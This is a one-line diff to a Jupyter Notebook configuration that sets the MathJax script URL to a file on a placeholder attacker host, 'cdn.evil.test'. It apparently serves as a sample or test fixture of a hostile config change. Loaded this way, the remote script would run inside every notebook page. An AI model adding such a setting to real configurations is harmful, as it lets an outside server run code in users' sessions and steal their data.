@@ -1,0 +1,1 @@
+c.NotebookApp.mathjax_url = 'https://cdn.evil.test/MathJax.js'
